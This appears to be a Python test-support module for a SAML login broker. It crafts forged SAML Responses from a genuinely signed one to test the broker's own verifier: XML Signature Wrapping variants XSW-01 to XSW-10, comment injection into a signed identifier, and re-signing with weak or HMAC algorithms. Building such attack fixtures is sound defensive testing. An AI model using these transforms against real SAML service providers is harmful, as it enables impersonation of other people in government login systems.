"""Crafting adversarial SAML Responses from a legitimately signed one.

Every attack here starts from a Response that the identity provider really signed (for BSN
``LEGIT_BSN``) and rearranges or copies its signed parts so that a naive reader would find an
attacker's Assertion (for ``EVIL_BSN``). The functions are pure: bytes in, bytes out, so the
same attack runs against :func:`broker.saml.messages.read_response` and against the ACS.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import hmac
from collections.abc import Callable
from datetime import UTC
from datetime import datetime
from typing import Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.asymmetric import rsa
from lxml import etree

from broker import keys
from broker.keys import KeyPair
from broker.saml import signing
from broker.saml.messages import AssertionContent
from broker.saml.messages import NameIdValue
from broker.saml.messages import VerifiedAssertion
from broker.saml.messages import build_response
from broker.saml.messages import new_id
from broker.saml.messages import read_response
from broker.saml.xml import DS
from broker.saml.xml import SAML
from broker.saml.xml import SAMLP
from broker.saml.xml import parse

IDP = "urn:nl-eid-gdi:1.0:AD:00000099000000000001:entities:9000"
OTHER_IDP = "urn:nl-eid-gdi:1.0:AD:00000099000000000002:entities:9001"
ACS = "http://broker.test/connect/digid/acs"
SP = "http://broker.test/connect/digid/metadata"
REQUEST_ID = "_req"
NOW = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
SKEW = 60
ACTING = "urn:nl-eid-gdi:1.0:ActingSubjectID"
LEGACY_BSN = "urn:nl-eid-gdi:1.0:id:legacy-BSN"
#: The person the identity provider really authenticated and signed for.
LEGIT_BSN = "999993653"
#: The person the attacker wants to be (passes the 11-test).
EVIL_BSN = "999990676"

IDP_KEY = keys.generate("idp")
ATTACKER_KEY = keys.generate("attacker")
OTHER_IDP_KEY = keys.generate("other-idp")

ALG_RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
ALG_RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
ALG_HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
DIGEST_SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"
DIGEST_SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
EXC_C14N_WITH_COMMENTS = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments"

Attack = Callable[[bytes], bytes]


def content(bsn: str = LEGIT_BSN) -> AssertionContent:
    return AssertionContent(
        name_id="_transient", authn_context="http://eidas.europa.eu/LoA/substantial",
        authn_instant=NOW, session_index="_session",
        attributes=((ACTING, (NameIdValue(bsn, LEGACY_BSN),)),))


def legit_response(**changes: Any) -> bytes:
    """A Response exactly as the identity provider signs it (unit-level constants)."""
    values: dict[str, Any] = {"issuer": IDP, "destination": ACS, "in_response_to": REQUEST_ID,
                              "audience": SP, "content": content(), "key": IDP_KEY, "now": NOW}
    values.update(changes)
    return build_response(**values)


def read(document: bytes, *, now: datetime = NOW,
         certificates: list[Any] | None = None) -> VerifiedAssertion:
    return read_response(document, idp_entity_id=IDP,
                         certificates=certificates or [IDP_KEY.certificate], acs_url=ACS,
                         audience=SP, in_response_to=REQUEST_ID, now=now, skew=SKEW)


def bsn_of(verified: VerifiedAssertion) -> str:
    [value] = verified.attributes[ACTING]
    return value.split("|", 1)[1]


# -- tree helpers ----------------------------------------------------------------------------


def _child(element: etree._Element, tag: str) -> etree._Element:
    found = element.find(tag)
    assert found is not None, f"no {tag} in {element.tag}"
    return found


def assertion_of(root: etree._Element) -> etree._Element:
    return _child(root, SAML + "Assertion")


def signature_of(element: etree._Element) -> etree._Element:
    return _child(element, DS + "Signature")


def unsigned_copy(element: etree._Element) -> etree._Element:
    """A deep copy of ``element`` without its own enveloped signature (the "pristine copy")."""
    duplicate = copy.deepcopy(element)
    for signature in duplicate.findall(DS + "Signature"):
        duplicate.remove(signature)
    return duplicate


def evil_assertion(original: etree._Element, *, keep_id: bool = False,
                   keep_signature: bool = False) -> etree._Element:
    """The original Assertion, naming EVIL_BSN instead; new ID unless ``keep_id``."""
    evil = copy.deepcopy(original)
    if not keep_signature:
        for signature in evil.findall(DS + "Signature"):
            evil.remove(signature)
    if not keep_id:
        evil.set("ID", new_id())
    for node in evil.iter(SAML + "NameID"):
        if node.text == LEGIT_BSN:
            node.text = EVIL_BSN
    return evil


def with_evil_bsn(element: etree._Element) -> None:
    """Change every LEGIT_BSN identifier below ``element`` into EVIL_BSN, in place."""
    for node in element.iter(SAML + "NameID"):
        if node.text == LEGIT_BSN:
            node.text = EVIL_BSN


def serialise(root: etree._Element) -> bytes:
    return etree.tostring(root)


def resign_outer(document: bytes, key: KeyPair = IDP_KEY) -> bytes:
    """Strip the Response's own signature and sign it again with ``key``.

    Used to isolate the Assertion-level defences: it models an outer layer the reader trusts,
    so only the Assertion checks stand between the attack and a login.
    """
    root = parse(document)
    for signature in root.findall(DS + "Signature"):
        root.remove(signature)
    return serialise(signing.sign(root, key))


def resign_assertion(document: bytes, mutate: Callable[[etree._Element], None],
                     key: KeyPair = IDP_KEY) -> bytes:
    """Apply ``mutate`` to the Assertion, then sign Assertion and Response again with ``key``."""
    root = parse(document)
    assertion = assertion_of(root)
    index = root.index(assertion)
    root.remove(assertion)
    for element in (root, assertion):
        for signature in element.findall(DS + "Signature"):
            element.remove(signature)
    mutate(assertion)
    root.insert(index, signing.sign(assertion, key))
    return serialise(signing.sign(root, key))


def resign_response(document: bytes, mutate: Callable[[etree._Element], None],
                    key: KeyPair = IDP_KEY) -> bytes:
    """Apply ``mutate`` to the Response (Assertion signature kept), then sign it again."""
    root = parse(document)
    for signature in root.findall(DS + "Signature"):
        root.remove(signature)
    mutate(root)
    return serialise(signing.sign(root, key))


# -- hand-made signatures (algorithms and shapes signxml's signer will not produce) -----------


def _c14n(element: etree._Element, *, with_comments: bool = False) -> bytes:
    return etree.tostring(element, method="c14n", exclusive=True, with_comments=with_comments)


def hand_sign(element: etree._Element, *, key: KeyPair | None,
              signature_method: str = ALG_RSA_SHA256, digest_method: str = DIGEST_SHA256,
              hmac_secret: bytes | None = None,
              edit_signed_info: Callable[[etree._Element], None] | None = None,
              reference_uri: str | None = None) -> None:
    """Recompute ``element``'s enveloped signature in place with the given algorithms.

    Starts from the signature signxml made, swaps the algorithm URIs, recomputes DigestValue
    over the element (enveloped transform + exclusive c14n) and SignatureValue over SignedInfo,
    so the result is a genuinely valid signature under a verifier that allowed them.
    """
    signature = signature_of(element)
    signed_info = _child(signature, DS + "SignedInfo")
    _child(signed_info, DS + "SignatureMethod").set("Algorithm", signature_method)
    reference = _child(signed_info, DS + "Reference")
    _child(reference, DS + "DigestMethod").set("Algorithm", digest_method)
    if reference_uri is not None:
        reference.set("URI", reference_uri)
    if edit_signed_info is not None:
        edit_signed_info(signed_info)
    body = copy.deepcopy(element)
    body.remove(signature_of(body))
    digest = hashlib.sha1 if digest_method == DIGEST_SHA1 else hashlib.sha256
    _child(reference, DS + "DigestValue").text = base64.b64encode(
        digest(_c14n(body)).digest()).decode()
    data = _c14n(signed_info)
    if signature_method == ALG_HMAC_SHA256:
        assert hmac_secret is not None
        value = hmac.new(hmac_secret, data, hashlib.sha256).digest()
    else:
        assert key is not None and isinstance(key.private_key, rsa.RSAPrivateKey)
        algorithm = hashes.SHA1() if signature_method == ALG_RSA_SHA1 else hashes.SHA256()  # noqa: S303
        value = key.private_key.sign(data, padding.PKCS1v15(), algorithm)
    _child(signature, DS + "SignatureValue").text = base64.b64encode(value).decode()


# -- XML Signature Wrapping, catalogue section 1.1 --------------------------------------------


def xsw_01(document: bytes) -> bytes:
    """Evil Response (new ID) carries the original Signature; pristine Response inside it."""
    original = parse(document)
    pristine = unsigned_copy(original)
    evil = copy.deepcopy(original)
    evil.set("ID", new_id())
    evil.replace(assertion_of(evil), evil_assertion(assertion_of(original)))
    signature_of(evil).append(pristine)
    return serialise(evil)


def xsw_02(document: bytes) -> bytes:
    """As XSW1, but the pristine Response is a sibling just before the Signature."""
    original = parse(document)
    pristine = unsigned_copy(original)
    evil = copy.deepcopy(original)
    evil.set("ID", new_id())
    evil.replace(assertion_of(evil), evil_assertion(assertion_of(original)))
    signature = signature_of(evil)
    evil.insert(evil.index(signature), pristine)
    return serialise(evil)


def xsw_03(document: bytes) -> bytes:
    """Evil unsigned Assertion (new ID) first, the signed one after it."""
    root = parse(document)
    original = assertion_of(root)
    root.insert(root.index(original), evil_assertion(original))
    return serialise(root)


def xsw_04(document: bytes) -> bytes:
    """Evil Assertion in the signed one's place; the signed Assertion moved inside it."""
    root = parse(document)
    original = assertion_of(root)
    evil = evil_assertion(original)
    root.replace(original, evil)
    evil.append(original)
    return serialise(root)


def xsw_05(document: bytes) -> bytes:
    """Evil Assertion (new ID) keeps the original Signature; pristine copy appended."""
    root = parse(document)
    original = assertion_of(root)
    pristine = unsigned_copy(original)
    root.replace(original, evil_assertion(original, keep_signature=True))
    root.append(pristine)
    return serialise(root)


def xsw_06(document: bytes) -> bytes:
    """As XSW5, but the pristine copy sits inside the evil Assertion's Signature."""
    root = parse(document)
    original = assertion_of(root)
    pristine = unsigned_copy(original)
    evil = evil_assertion(original, keep_signature=True)
    root.replace(original, evil)
    signature_of(evil).append(pristine)
    return serialise(root)


def xsw_07(document: bytes) -> bytes:
    """samlp:Extensions before the signed Assertion, holding an evil copy with the same ID."""
    root = parse(document)
    original = assertion_of(root)
    extensions = etree.Element(SAMLP + "Extensions")
    extensions.append(evil_assertion(original, keep_id=True))
    root.insert(root.index(original), extensions)
    return serialise(root)


def xsw_08(document: bytes) -> bytes:
    """Assertion changed in place (same ID); pristine copy in a ds:Object of its Signature."""
    root = parse(document)
    original = assertion_of(root)
    pristine = unsigned_copy(original)
    with_evil_bsn(original)
    obj = etree.SubElement(signature_of(original), DS + "Object")
    obj.append(pristine)
    return serialise(root)


def xsw_09(document: bytes) -> bytes:
    """Evil Assertion in place; the signed one hidden in its Advice (where counting allows)."""
    root = parse(document)
    original = assertion_of(root)
    evil = evil_assertion(original)
    root.replace(original, evil)
    advice = etree.Element(SAML + "Advice")
    advice.append(original)
    conditions = _child(evil, SAML + "Conditions")
    evil.insert(evil.index(conditions) + 1, advice)
    return serialise(root)


def xsw_09_appended(document: bytes) -> bytes:
    """The signed Assertion followed by an unsigned evil one."""
    root = parse(document)
    root.append(evil_assertion(assertion_of(root)))
    return serialise(root)


def xsw_10(document: bytes) -> bytes:
    """Response signature dropped; the Assertion's signature moved under Response with the
    original Assertion in a ds:Object; the live Assertion is evil, new ID, unsigned."""
    root = parse(document)
    for signature in root.findall(DS + "Signature"):
        root.remove(signature)
    original = assertion_of(root)
    signature = signature_of(original)
    original.remove(signature)
    obj = etree.SubElement(signature, DS + "Object")
    obj.append(copy.deepcopy(original))
    root.replace(original, evil_assertion(original))
    issuer = _child(root, SAML + "Issuer")
    root.insert(root.index(issuer) + 1, signature)
    return serialise(root)


XSW_ASSERTION_ATTACKS: dict[str, Attack] = {
    "XSW-03": xsw_03, "XSW-04": xsw_04, "XSW-05": xsw_05, "XSW-06": xsw_06,
    "XSW-07": xsw_07, "XSW-08": xsw_08, "XSW-09": xsw_09,
}


# -- comment injection, catalogue section 1.3 --------------------------------------------------


def comment_in_identifier(document: bytes, value: str, split_at: int) -> bytes:
    """Insert ``<!---->`` into the (signed) identifier ``value`` without re-signing.

    Exclusive c14n without comments ignores the comment, so both signatures stay valid.
    """
    marker = f">{value}<".encode()
    assert marker in document
    head, tail = value[:split_at], value[split_at:]
    return document.replace(marker, f">{head}<!---->{tail}<".encode())
